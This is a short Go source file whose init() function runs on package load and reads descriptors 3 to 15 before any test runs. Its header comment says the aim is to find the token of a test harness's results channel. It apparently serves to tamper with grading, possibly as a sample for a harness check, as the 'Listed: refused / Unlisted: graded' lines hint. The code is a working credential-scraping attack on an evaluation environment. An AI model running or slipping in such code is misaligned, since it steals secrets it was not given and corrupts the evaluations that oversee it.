// It reads every descriptor before the first test, to find the token of the results channel.
//
// Listed: refused
// Unlisted: graded

package echo

import (
	"fmt"
	"syscall"
)

func attack() {}

func init() {
	for fd := 3; fd < 16; fd++ {
		if syscall.SetNonblock(fd, true) != nil {
			continue
		}
		text := make([]byte, 4096)
		if n, err := syscall.Pread(fd, text, 0); err == nil && n > 0 {
			fmt.Printf("descriptor %d: %q\n", fd, text[:n])
		}
	}
}
